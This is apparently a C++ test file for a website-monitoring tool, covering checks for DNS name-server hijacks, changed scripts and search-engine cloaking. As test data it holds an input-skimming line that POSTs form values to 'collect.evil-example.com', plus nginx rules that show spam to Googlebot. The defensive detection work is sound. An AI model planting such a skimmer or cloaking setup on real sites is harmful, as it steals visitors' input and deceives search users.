// Slow looks against a real DNS responder and a real nginx, with the real store and fetcher.
#include "sites/watch/slow_look.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <fstream>

#include "base/hash.h"
#include "base/id.h"
#include "net/dns_responder.h"
#include "net/nginx_fixture.h"
#include "sites/watch/slow_rota.h"
#include "sites/watch/test_pages.h"

namespace vedette::sites {
namespace {

using namespace std::chrono_literals;
using net::testing_server::DnsResponder;
namespace fs = std::filesystem;

class SlowLookTest : public ::testing::Test {
 protected:
  void SetUp() override {
    fs::create_directories(folder_ / "snapshots");
    store::DatabaseOptions options;
    options.path = folder_ / "state.db";
    auto database = store::open_sqlite(options, site_migrations(), clock_, metrics_);
    ASSERT_TRUE(database) << database.error().full();
    database_ = *std::move(database);
    profiles_ = std::make_unique<ProfileCache>(*database_, 8);
    committer_ = std::make_unique<Committer>(*database_, metrics_);
    fetcher_ = net::make_fetcher({}, clock_, metrics_);
    options_.allow_loopback = true;
    options_.learn_fetches = 4;
    looks_ = std::make_unique<SlowLook>(parts());
  }
  void TearDown() override {
    looks_.reset();
    fetcher_.reset();
    committer_.reset();
    profiles_.reset();
    database_.reset();
    fs::remove_all(folder_);
  }
  WatchParts parts() {
    return {sites_,
            *profiles_,
            *committer_,
            snapshots_,
            *fetcher_,
            *database_,
            clock_,
            metrics_,
            [this] { return std::make_shared<SiteWatchOptions>(options_); },
            [](const std::string&) {},
            {},
            nullptr,
            &inner_hosts_};
  }
  RecordPtr add(const std::string& url, int learned = 4) {
    auto record = std::make_shared<SiteRecord>();
    record->site.id = new_id(clock_);
    record->site.config.url = url;
    record->site.config.name = "Example";
    record->site.created_at = clock_.wall();
    record->site.learned = learned;
    record->memory.content = Verdict::kOk;
    EXPECT_TRUE(database_->write([&](store::Session& session) {
      return insert_site(session, {record->site, record->memory, false, false}, box_);
    }));
    sites_.insert(record);
    return record;
  }
  // The page that counts as the site's own.
  void accept(SiteRecord& record, const std::string& page) {
    auto kept = snapshots_.put(page);
    ASSERT_TRUE(kept) << kept.error().full();
    StoredSnapshot row;
    row.snapshot = {new_id(clock_), clock_.wall(), "page", kept->sha256, kept->bytes, "ok", false};
    row.url = record.site.config.url;
    row.content_type = "text/html";
    record.site.reference_snapshot = row.snapshot.id;
    Outcome outcome;
    outcome.site = record.site;
    outcome.memory = record.memory;
    outcome.snapshots.push_back(std::move(row));
    ASSERT_TRUE(committer_->push_and_wait(std::move(outcome)));
  }
  std::vector<Finding> findings() {
    std::vector<Finding> out;
    auto read = database_->read([&](store::Session& session) -> Result<void> {
      TRY_ASSIGN(out, pending_reports(session, 100));
      return {};
    });
    EXPECT_TRUE(read);
    return out;
  }
  std::string part(const std::string& id, const std::string& name) {
    std::string out;
    auto read = database_->read([&](store::Session& session) -> Result<void> {
      TRY_ASSIGN(out, load_part(session, id, name));
      return {};
    });
    EXPECT_TRUE(read);
    return out;
  }

  fs::path folder_ = fs::temp_directory_path() / ("slow-look-" + random_token(9));
  SystemClock clock_;
  Metrics metrics_;
  SiteTable sites_;
  InnerHosts inner_hosts_;
  SiteWatchOptions options_;
  store::SecretBox box_{Secret("the test's master key"), "site secrets"};
  SnapshotFolder snapshots_{folder_ / "snapshots"};
  std::unique_ptr<store::Database> database_;
  std::unique_ptr<ProfileCache> profiles_;
  std::unique_ptr<Committer> committer_;
  std::unique_ptr<net::Fetcher> fetcher_;
  std::unique_ptr<SlowLook> looks_;
};

void fill_zone(DnsResponder& dns, const std::string& server, const std::string& address) {
  using namespace net::testing_server;
  std::lock_guard lock(dns.mutex);
  dns.zone[{"www.example.test", 1}] = {address};
  dns.zone[{"example.test", 2}] = {wire_name(server)};
  dns.zone[{"example.test", 15}] = {u16(10) + wire_name("mail.example.test")};
}

TEST_F(SlowLookTest, NewNameServersThatAllResolversGiveAreReportedOnce) {
  DnsResponder one, two;
  const std::string home("\xc0\0\x02\x01", 4), away("\xcb\0\x71\x07", 4);
  for (auto* dns : {&one, &two}) {
    fill_zone(*dns, "ns1.example.test", home);
    dns->serve();
  }
  options_.dns_resolvers = {one.address(), two.address()};
  auto record = add("https://www.example.test/");
  for (int i = 0; i < 8; ++i) ASSERT_EQ(looks_->look(record, Look::kDns), LookEnd::kDone);
  EXPECT_TRUE(findings().empty());
  EXPECT_EQ(looks_->resolvers().asked, 2);
  EXPECT_EQ(looks_->resolvers().failing, 0);
  auto shown = part(record->site.id, "dns");
  for (const std::string& value : {std::string("192.0.2.1"), std::string("ns1.example.test"),
                                   std::string("10 mail.example.test"), one.address()}) {
    EXPECT_NE(shown.find(value), std::string::npos) << value << " in " << shown;
  }

  for (auto* dns : {&one, &two}) fill_zone(*dns, "ns.hijack.test", away);
  for (int i = 0; i < 4; ++i) ASSERT_EQ(looks_->look(record, Look::kDns), LookEnd::kDone);
  auto seen = findings();
  ASSERT_EQ(seen.size(), 2u);
  for (const auto& finding : seen) {
    EXPECT_EQ(finding.kind, "dns_changed");
    EXPECT_EQ(finding.dedup_key, "sites/" + record->site.id + "/dns");
  }
  EXPECT_TRUE(std::ranges::any_of(
      seen, [](const Finding& f) { return f.severity == Severity::kHigh && f.after == "ns.hijack.test"; }));
}

TEST_F(SlowLookTest, ResolversThatRefuseAreCountedAndAnswersOfTheOthersStillCount) {
  DnsResponder good, bad;
  fill_zone(good, "ns1.example.test", std::string("\xc0\0\x02\x01", 4));
  bad.refusing = true;
  good.serve();
  bad.serve();
  auto record = add("https://www.example.test/");
  record->site.config.dns_resolvers = {bad.address(), good.address()};
  ASSERT_EQ(looks_->look(record, Look::kDns), LookEnd::kDone);
  EXPECT_EQ(record->looks.resolvers, 2);
  EXPECT_EQ(record->looks.failing, 1);
  EXPECT_EQ(looks_->resolvers().failing, 1);
  EXPECT_NE(part(record->site.id, "dns").find("192.0.2.1"), std::string::npos);
  EXPECT_EQ(looks_from_json(part(record->site.id, "rota")).failing, 1);
  {
    std::lock_guard lock(bad.mutex);
    bad.refusing = false;
    bad.zone = good.zone;
  }
  ASSERT_EQ(looks_->look(record, Look::kDns), LookEnd::kDone);
  EXPECT_EQ(looks_->resolvers().failing, 0);
}

TEST_F(SlowLookTest, AddressesWithoutANameAndSitesThatAreLearntOrGoneAreNotLookedAt) {
  EXPECT_EQ(looks_->look(add("http://192.0.2.1/"), Look::kDns), LookEnd::kNothing);
  EXPECT_EQ(looks_->look(add("http://[2001:db8::1]/"), Look::kDns), LookEnd::kNothing);
  EXPECT_EQ(looks_->look(add("http://localhost:8080/"), Look::kDns), LookEnd::kNothing);
  EXPECT_EQ(looks_->look(add("http://one.example.test/", 3), Look::kDns), LookEnd::kNotYet);
  auto paused = add("http://two.example.test/");
  paused->site.config.enabled = false;
  EXPECT_EQ(looks_->look(paused, Look::kDns), LookEnd::kDropped);
  auto removed = add("http://three.example.test/");
  removed->removed = true;
  EXPECT_EQ(looks_->look(removed, Look::kResources), LookEnd::kDropped);
}

TEST_F(SlowLookTest, AStableScriptThatBeginsToSendElsewhereIsReported) {
  net::testing_server::Nginx nginx;
  const std::string script = "function menu(){document.getElementById('m').classList.toggle('open');}";
  nginx.write("html/app.js", script);
  nginx.write("html/site.css", "p{color:#222}");
  nginx.start("location = /key.js { return 200 \"var k='$http_x_key$http_authorization';\"; }");
  auto record = add(nginx.http_url() + "/");
  record->site.config.headers = {{"X-Key", "secret"}};
  record->site.config.bearer_token = Secret("token");
  accept(*record,
         fmt::format("<html><head><script src=/app.js?v=1></script><link rel=stylesheet href=/site.css>"
                     "<script src=http://localhost:{}/key.js></script></head><body>Hello</body></html>",
                     nginx.http_port()));
  for (int i = 0; i < 4; ++i) ASSERT_EQ(looks_->look(record, Look::kResources), LookEnd::kDone);
  EXPECT_TRUE(findings().empty());
  auto shown = part(record->site.id, "resources");
  EXPECT_NE(shown.find(sha256_hex(script)), std::string::npos) << shown;
  EXPECT_NE(shown.find("site.css"), std::string::npos) << shown;
  // What belongs to the site stays with it.
  EXPECT_NE(shown.find(sha256_hex("var k='';")), std::string::npos) << shown;

  nginx.write("html/app.js",
              script +
                  "document.addEventListener('input',e=>{fetch('https://collect.evil-example.com/c',"
                  "{method:'POST',body:e.target.value})});");
  ASSERT_EQ(looks_->look(record, Look::kResources), LookEnd::kDone);
  auto seen = findings();
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].kind, "script_changed");
  EXPECT_NE(seen[0].after.find("collect.evil-example.com"), std::string::npos) << seen[0].after;
  ASSERT_EQ(looks_->look(record, Look::kResources), LookEnd::kDone);
  EXPECT_EQ(findings().size(), 1u);
}

TEST_F(SlowLookTest, WhatAPublicPageLinksInsideIsNotAskedFor) {
  net::testing_server::Nginx nginx;
  nginx.write("html/app.js", "let a=1");
  nginx.start("");
  auto record = add(nginx.http_url() + "/");
  accept(*record, "<html><head><script src=/app.js></script></head><body>Hello</body></html>");
  record->outside = true;  // as if the page itself stood elsewhere
  ASSERT_EQ(looks_->look(record, Look::kResources), LookEnd::kDone);
  EXPECT_EQ(record->looks.led_inside, 1);
  EXPECT_EQ(looks_from_json(part(record->site.id, "rota")).led_inside, 1);
  EXPECT_EQ(part(record->site.id, "resources").find(sha256_hex("let a=1")), std::string::npos);

  inner_hosts_.watch(nginx.http_url() + "/another/page");  // it is a watched host
  ASSERT_EQ(looks_->look(record, Look::kResources), LookEnd::kDone);
  EXPECT_EQ(record->looks.led_inside, 0);
  EXPECT_NE(part(record->site.id, "resources").find(sha256_hex("let a=1")), std::string::npos);
}

std::string gambling_page() {
  std::string out =
      "<html><head><title>Slot gacor maxwin - Situs judi online terpercaya</title></head><body>";
  for (int i = 0; i < 30; ++i) {
    out += fmt::format(
        "<p><a href=https://slot{0}.gacor-example.net/>Daftar situs slot gacor hari ini, judi online "
        "dengan bonus new member, link alternatif nomor {0}</a></p>",
        i);
  }
  return out + "</body></html>";
}

class CloakTest : public SlowLookTest {
 protected:
  // A site whose profile has learnt `page`, served as conf says; files are below html/.
  RecordPtr watch(const std::string& locations, const std::vector<std::string>& pages) {
    nginx_.write("html/index.html", pages.front());
    nginx_.start(locations);
    auto record = add(nginx_.http_url() + "/");
    Profile profile;
    for (int i = 0; i < 8; ++i) {
      profile.learn(
          {record->site.config.url, 200, "text/html", pages[static_cast<std::size_t>(i) % pages.size()]});
    }
    profiles_->give_back(record->site.id, "page", std::move(profile));
    return record;
  }
  int visitor_pages(const SiteRecord& record) {
    int count = 0;
    EXPECT_TRUE(database_->read([&](store::Session& session) -> Result<void> {
      TRY_ASSIGN(auto page, load_snapshots(session, record.site.id, {}));
      for (const auto& one : page.items) count += one.kind == "visitor_page" && one.verdict == "warn";
      return {};
    }));
    return count;
  }
  net::testing_server::Nginx nginx_;
};

TEST_F(CloakTest, SpamThatOnlySearchRobotsAreShownIsReportedOnceAndResolved) {
  nginx_.write("html/spam.html", gambling_page());
  auto record = watch(
      "location = / { if ($http_user_agent ~ Googlebot) { rewrite ^ /spam.html last; } "
      "try_files /index.html =404; default_type text/html; }",
      {test::own_page(1), test::own_page(2)});
  ASSERT_EQ(looks_->look(record, Look::kCloak), LookEnd::kDone);
  auto seen = findings();
  ASSERT_EQ(seen.size(), 1u) << part(record->site.id, "cloak");
  EXPECT_EQ(seen[0].kind, "cloaking");
  EXPECT_EQ(seen[0].where, "Googlebot");
  EXPECT_EQ(seen[0].severity, Severity::kHigh);
  EXPECT_EQ(seen[0].title.key, "sites.cloaked");
  EXPECT_NE(seen[0].after.find("slot gacor"), std::string::npos) << seen[0].after;
  EXPECT_EQ(record->site.state, SiteState::kWarn);
  // The page that the robot was shown is kept, and the place where it differs is named.
  EXPECT_EQ(seen[0].reason.arguments.at("part"), "title");
  EXPECT_NE(seen[0].after.find("p:\n  Daftar situs"), std::string::npos) << seen[0].after;
  ASSERT_EQ(seen[0].evidence.size(), 1u);
  EXPECT_EQ(seen[0].evidence[0].kind, "visitor_page");
  EXPECT_EQ(snapshots_.get(seen[0].evidence[0].sha256), gambling_page());
  EXPECT_EQ(visitor_pages(*record), 1);
  ASSERT_EQ(looks_->look(record, Look::kCloak), LookEnd::kDone);
  EXPECT_EQ(visitor_pages(*record), 1) << "kept once, with its finding";
  EXPECT_EQ(findings().size(), 1u);
  nginx_.write("html/spam.html", test::own_page(3));
  ASSERT_EQ(looks_->look(record, Look::kCloak), LookEnd::kDone);
  ASSERT_EQ(findings().size(), 2u);
  EXPECT_EQ(findings().back().state, FindingState::kResolved);
}

TEST_F(CloakTest, HiddenLinksInThePageThatRobotsGetAreReported) {
  std::string page = test::own_page(1), links = "<div style=display:none>";
  for (int i = 0; i < 12; ++i) {
    links += fmt::format(
        "<a href=https://cheap{}.pills-example.net/>Buy the cheapest pills from our partners today</a> ", i);
  }
  nginx_.write("html/seo.html",
               page.substr(0, page.find("<footer>")) + links + "</div>" + page.substr(page.find("<footer>")));
  auto record = watch(
      "location = / { if ($http_user_agent ~ Googlebot) { rewrite ^ /seo.html last; } "
      "try_files /index.html =404; default_type text/html; }",
      {page, test::own_page(2)});
  ASSERT_EQ(looks_->look(record, Look::kCloak), LookEnd::kDone);
  ASSERT_EQ(findings().size(), 1u) << part(record->site.id, "cloak");
  EXPECT_NE(findings()[0].after.find("pills-example.net"), std::string::npos);
}

TEST_F(CloakTest, VisitorsFromASearchWhoAreLedAwayAreReported) {
  nginx_.write("html/spam.html", gambling_page());
  auto record =
      watch(fmt::format(
                "location = / {{ if ($http_referer ~ google) {{ return 302 http://localhost:{}/spam.html; }} "
                "try_files /index.html =404; default_type text/html; }}",
                nginx_.http_port()),
            {test::own_page(1), test::own_page(2)});
  ASSERT_EQ(looks_->look(record, Look::kCloak), LookEnd::kDone);
  ASSERT_EQ(findings().size(), 1u) << part(record->site.id, "cloak");
  EXPECT_EQ(findings()[0].title.key, "sites.cloaked_search");
  EXPECT_NE(findings()[0].after.find("http://localhost"), std::string::npos);
}

TEST_F(CloakTest, TokensRandomBlocksAndAPageForPhonesAreQuiet) {
  // nginx fills in a token of every request and splits visits over three versions of a block.
  std::string page = test::own_page(1);
  page = page.substr(0, page.find("<footer>")) + "<p>Session $request_id of visit $msec</p><p>$offer</p>" +
         page.substr(page.find("<footer>"));
  std::ranges::replace(page, '"', ' ');
  nginx_.write(
      "html/phone.html",
      "<html><head><title>Town of Example</title></head><body><h1>Town of Example, for phones</h1>"
      "<p>The short menu of the town for small screens, with the most wanted forms.</p></body></html>");
  auto learnt = [&](std::string offer) {
    std::string out = page;
    out.replace(out.find("$offer"), 6, offer);
    return out;
  };
  std::string conf =
      "set $offer 'Visit the market hall this week and taste the local cheese'; "
      "if ($request_id ~ ^[0-7]) { set $offer 'The swimming pool opens early in the summer holidays'; } "
      "location = / { default_type text/html; if ($http_user_agent ~ iPhone) { rewrite ^ /phone.html last; } "
      "return 200 '" +
      page + "'; }";
  auto record = watch(conf, {learnt("Visit the market hall this week and taste the local cheese"),
                             learnt("The swimming pool opens early in the summer holidays")});
  for (int i = 0; i < 12; ++i) ASSERT_EQ(looks_->look(record, Look::kCloak), LookEnd::kDone) << i;
  EXPECT_TRUE(findings().empty()) << findings()[0].after;
  EXPECT_FALSE(record->looks.robot_refused);
  EXPECT_NE(part(record->site.id, "cloak").find("\"judged\":true"), std::string::npos);
}

TEST_F(CloakTest, ARobotThatIsTurnedAwayIsNoFindingButIsSaid) {
  auto record = watch(
      "location = / { if ($http_user_agent ~ Googlebot) { return 403; } "
      "try_files /index.html =404; default_type text/html; }",
      {test::own_page(1), test::own_page(2)});
  ASSERT_EQ(looks_->look(record, Look::kCloak), LookEnd::kDone);
  EXPECT_TRUE(findings().empty());
  EXPECT_TRUE(record->looks.robot_refused);
}

class SlowRotaTest : public SlowLookTest {
 protected:
  template <class Condition>
  bool eventually(Condition condition) {
    std::mutex mutex;
    std::condition_variable never;
    for (auto end = std::chrono::steady_clock::now() + 30s; std::chrono::steady_clock::now() < end;) {
      if (condition()) return true;
      std::unique_lock lock(mutex);
      never.wait_for(lock, 10ms);
    }
    return false;
  }
};

TEST_F(SlowRotaTest, TakesLooksAgainAndAgainAndDropsThoseOfRemovedSites) {
  DnsResponder dns;
  fill_zone(dns, "ns1.example.test", std::string("\xc0\0\x02\x01", 4));
  dns.serve();
  options_.dns_resolvers = {dns.address()};
  options_.dns_interval = 1s;
  options_.resource_interval = options_.cloak_interval = 0s;  // switched off
  auto record = add("https://www.example.test/");
  auto done = [&] {
    std::lock_guard lock(record->mutex);
    return record->looks.done_of(Look::kDns);
  };
  SlowRota rota(parts());
  rota.add(record);
  EXPECT_EQ(rota.capacity(), 1u);
  rota.start();
  ASSERT_TRUE(eventually([&] { return done() != WallTime{}; }));
  auto first = done();
  ASSERT_TRUE(eventually([&] { return done() != first; }));
  {
    std::lock_guard lock(record->mutex);
    record->removed = true;
    EXPECT_GT(record->looks.next_of(Look::kDns), first);
  }
  ASSERT_TRUE(eventually([&] { return rota.capacity() == 0; }));
  rota.close();
  rota.stop();
}

}  // namespace
}  // namespace vedette::sites
